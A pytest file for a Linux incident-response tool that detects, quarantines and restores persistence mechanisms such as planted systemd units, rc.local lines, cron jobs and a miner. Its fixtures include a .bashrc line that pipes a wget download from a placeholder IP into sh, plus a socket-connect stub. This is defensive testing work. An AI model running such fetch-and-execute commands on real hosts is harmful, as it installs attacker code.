    assert [a for a in actions if a.action == "manual"] == []
    unit = next(a for a in actions if a.path == "/etc/systemd/system/sysupdate.service")
    assert (
        unit.destination
        == "/var/lib/lifeline/quarantine/20250101T000000Z/etc/systemd/system/sysupdate.service"
    )
    assert unit.before.startswith("/etc/systemd/system/sysupdate.service (file, 0644 root:root, sha256 ")
    line = next(a for a in actions if a.path == "/etc/rc.local")
    assert (line.before, line.after) == (
        "/usr/bin/.sysupdate &",
        "#lifeline-quarantine(exec-hidden-path) /usr/bin/.sysupdate &",
    )
    assert not any(a.applied for a in actions)


def test_quarantine_comments_lines_moves_files_and_deletes_nothing(incident, rules):
    before = snapshot(incident)
    originals = {
        p: (incident / p.lstrip("/")).read_bytes() for p in INCIDENT if not isinstance(INCIDENT[p], Link)
    }
    result = persistence.scan(str(incident), rules)
    actions = persistence.plan(result, stamp="20250101T000000Z")

    persistence.apply(result, actions, "/var/backups/lifeline", stamp="20250101T000000Z")

    assert [a.error for a in actions if a.error] == []
    assert all(a.applied for a in actions)
    quarantine = incident / "var/lib/lifeline/quarantine/20250101T000000Z"
    for path in MOVED:
        assert not os.path.lexists(incident / path.lstrip("/")), path
        moved = quarantine / path.lstrip("/")
        assert os.path.lexists(moved), path
        record = json.loads(Path(f"{moved}.lifeline.json").read_text())
        assert record["original_path"] == path
        assert record["quarantined_path"] == "/" + str(moved.relative_to(incident))
        assert (record["uid"], record["gid"], record["mode"]) == (
            before[path][1],
            before[path][2],
            f"{stat.S_IMODE(before[path][0]):04o}",
        )
        assert set(record) >= {
            "owner",
            "mtime",
            "ctime",
            "sha256",
            "rules",
            "restore",
            "restore_host",
            "reason",
        }
        if path in originals:
            assert moved.read_bytes() == originals[path]
            assert record["sha256"] == hashlib.sha256(originals[path]).hexdigest()
            assert os.lstat(moved).st_mtime_ns == before[path][3]
    link = quarantine / "etc/systemd/system/multi-user.target.wants/sysupdate.service"
    assert os.readlink(link) == "/etc/systemd/system/sysupdate.service"
    for path, line, ids in COMMENTED:
        lines = (incident / path.lstrip("/")).read_bytes().split(b"\n")
        original = originals[path].split(b"\n")
        marker = f"#lifeline-quarantine({','.join(ids)}) ".encode()
        assert lines == [*original[: line - 1], marker + original[line - 1], *original[line:]]
        backup = incident / "var/backups/lifeline/20250101T000000Z" / path.lstrip("/")
        assert backup.read_bytes() == originals[path]
        assert os.lstat(incident / path.lstrip("/")).st_mode == before[path][0]
    # Nothing else changed: every other entry is as it was.
    after = snapshot(incident)
    changed = MOVED | {p for p, _, _ in COMMENTED}
    untouched = {p for p in before if not any(p == c or p.startswith(c + "/") for c in changed)}
    assert {p: after.get(p) for p in untouched} == {p: before[p] for p in untouched}
    for path in before.keys() - untouched - {p for p, _, _ in COMMENTED}:
        assert after[f"/var/lib/lifeline/quarantine/20250101T000000Z{path}"] == before[path]


def test_second_run_finds_nothing_to_do_and_reports_the_quarantine(incident, rules):
    first = persistence.scan(str(incident), rules)
    persistence.apply(
        first, persistence.plan(first, stamp="20250101T000000Z"), "/var/backups/lifeline", "20250101T000000Z"
    )
    before = snapshot(incident)

    again = persistence.scan(str(incident), rules)
    actions = persistence.plan(again, stamp="20250101T000001Z")

    assert [f for f in again.finding_dicts() if f["severity"] != "info"] == []
    assert actions == []
    held = again.already_quarantined
    assert {(h["path"], h["line"], tuple(h["rules"])) for h in held if h["kind"] == "line"} == COMMENTED
    files = {h["path"]: h for h in held if h["kind"] == "file"}
    assert set(files) == MOVED
    assert all(h["present"] and h["quarantined_at"].endswith("Z") for h in files.values())
    assert snapshot(incident) == before


def test_restore_commands_put_everything_back_byte_for_byte(incident, rules):
    before = snapshot(incident)
    result = persistence.scan(str(incident), rules)
    actions = persistence.plan(result, stamp="20250101T000000Z")
    persistence.apply(result, actions, "/var/backups/lifeline", stamp="20250101T000000Z")

    for action in actions:
        subprocess.run(["sh", "-c", action.restore_host], check=True)
    moves = [a for a in actions if a.action == "move"]
    for action in moves:  # a second restore refuses: it never replaces what is there now
        assert subprocess.run(["sh", "-c", action.restore_host], capture_output=True).returncode != 0

    after = snapshot(incident)
    # A line put back rewrites its file: all but its modification time is as it was.
    for path, _, _ in COMMENTED:
        before[path] = before[path][:3] + before[path][4:]
        after[path] = after[path][:3] + after[path][4:]
    assert {p: after.get(p) for p in before} == before
    assert (incident / "usr/bin/.sysupdate").stat().st_mtime == 1700000000


def test_a_file_changed_after_the_scan_is_left_alone(incident, rules):
    result = persistence.scan(str(incident), rules)
    actions = persistence.plan(result, stamp="20250101T000000Z")
    (incident / "etc/rc.local").write_text("#!/bin/sh\n/usr/bin/.sysupdate &\necho changed\n")
    os.utime(incident / "usr/bin/.sysupdate", (1, 1))

    persistence.apply(result, actions, "/var/backups/lifeline", stamp="20250101T000000Z")

    rc_local = next(a for a in actions if a.path == "/etc/rc.local")
    assert not rc_local.applied
    assert "changed while it was being repaired" in rc_local.error
    payload = next(a for a in actions if a.path == "/usr/bin/.sysupdate")
    assert (payload.applied, payload.error) == (
        False,
        "/usr/bin/.sysupdate changed since it was scanned; not moved: run again",
    )
    assert (incident / "etc/rc.local").read_text().endswith("echo changed\n")
    assert (incident / "usr/bin/.sysupdate").read_bytes() == SYSUPDATE


def test_package_owned_startup_files_are_never_moved(base, rules):
    """A packaged unit edited to run a planted program: reported, the action says what to do."""
    unit = base / "usr/lib/systemd/system/cron.service"
    plant(
        base,
        "/usr/lib/systemd/system/cron.service",
        "[Service]\nExecStart=/usr/sbin/cron -f\nExecStartPost=/dev/shm/.x/m\n",
    )

    result = persistence.scan(str(base), rules)
    actions = persistence.plan(result, stamp="20250101T000000Z")

    assert [(a.action, a.path) for a in actions] == [("manual", "/usr/lib/systemd/system/cron.service")]
    assert actions[0].reason.startswith(
        "owned by package cron: reinstall it (apt-get install --reinstall cron)"
    )
    persistence.apply(result, actions, "/var/backups/lifeline")
    assert unit.exists()


def test_a_move_across_filesystems_copies_verifies_and_keeps_owner_mode_and_time(incident, rules):
    """On a live host /tmp and /dev/shm are often tmpfs: rename(2) fails, the file is copied over."""
    tmp = incident / "tmp"
    miner = (tmp / "kdevtmpfsi").read_bytes()
    shutil.rmtree(tmp)
    tmp.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8m", "lifeline-test", str(tmp)], check=True)
    try:
        plant(incident, "/tmp/kdevtmpfsi", miner, 0o4755, 1001)
        os.utime(tmp / "kdevtmpfsi", (1600000000, 1600000000))
        result = persistence.scan(str(incident), rules)
        actions = [a for a in persistence.plan(result, stamp="S") if a.path == "/tmp/kdevtmpfsi"]

        persistence.apply(result, actions, "/var/backups/lifeline", "S")

        assert (actions[0].applied, actions[0].error) == (True, "")
        moved = incident / "var/lib/lifeline/quarantine/S/tmp/kdevtmpfsi"
        st = os.lstat(moved)
        assert (moved.read_bytes(), st.st_uid, stat.S_IMODE(st.st_mode), st.st_mtime) == (
            miner,
            1001,
            0o4755,
            1600000000,
        )
        assert not (tmp / "kdevtmpfsi").exists()
    finally:
        subprocess.run(["umount", str(tmp)], check=True)


def test_what_moves_with_an_init_script_and_what_never_moves(base, rules):
    plant(base, "/etc/init.d/sysupdate", "#!/bin/sh\n/usr/bin/.sysupdate &\n", 0o755)
    plant(base, "/etc/rc2.d/S01sysupdate", Link("../init.d/sysupdate"))
    plant(base, "/etc/rc2.d/S01cron", Link("../init.d/cron"))
    plant(base, "/usr/bin/.sysupdate", SYSUPDATE, 0o755)
    # Only one of two jobs is flagged: the file stays, the line is commented out.
    plant(base, "/etc/cron.d/mixed", "0 4 * * * root /usr/bin/true\n*/1 * * * * root /dev/shm/.x/m\n")
    # A locally built interpreter, or a program found in PATH, named by a flagged line is not the malware.
    plant(base, "/usr/local/bin/python3", "#!/bin/sh\n", 0o755)
    plant(base, "/usr/local/bin/sync-tool", "#!/bin/sh\n", 0o755)
    plant(
        base,
        "/root/.bashrc",
        "python3 -c 'import socket;s=socket.socket();s.connect((\"h\",1))'\n"
        "sync-tool --quiet; wget -qO- http://203.0.113.7/x | sh\n",
    )
    # An indicator rule naming a whole top-level directory must not move it.
    plant(base, "/opt/app/run", "#!/bin/sh\n", 0o755)
    own = [
        {
            "id": "opt",
            "description": "All of /opt",
            "severity": "high",
            "match": {"indicator_paths": ["/opt"]},
        }
    ]
    rules = [*rules, *persistence.load_rules(own)]

    result = persistence.scan(str(base), rules)
    actions = {(a.action, a.path) for a in persistence.plan(result, stamp="S")}

    assert actions == {
        ("move", "/etc/init.d/sysupdate"),
        ("move", "/etc/rc2.d/S01sysupdate"),
        ("move", "/usr/bin/.sysupdate"),
        ("comment", "/etc/cron.d/mixed"),
        ("comment", "/root/.bashrc"),
        ("manual", "/opt"),
    }


def test_a_payload_inside_a_quarantined_directory_moves_with_it(base, rules):
    """The Outlaw kit's layout: alice's crontab runs ~/.configrc/a/upd, an indicator directory."""
    plant(base, "/home/alice/.configrc/a/upd", "#!/bin/sh\n", 0o755, 1000)
    crontab = "@reboot /home/alice/.configrc/a/upd>/dev/null 2>&1\n"
    plant(base, "/var/spool/cron/crontabs/alice", crontab, 0o600, 1000)

    result = persistence.scan(str(base), rules)
    actions = persistence.plan(result, stamp="S")
    persistence.apply(result, actions, "/var/backups/lifeline", "S")

    assert [(a.action, a.path, a.applied, a.error) for a in actions] == [
        ("comment", "/var/spool/cron/crontabs/alice", True, ""),
        ("move", "/home/alice/.configrc", True, ""),
    ]
    assert (base / "var/lib/lifeline/quarantine/S/home/alice/.configrc/a/upd").read_text() == "#!/bin/sh\n"
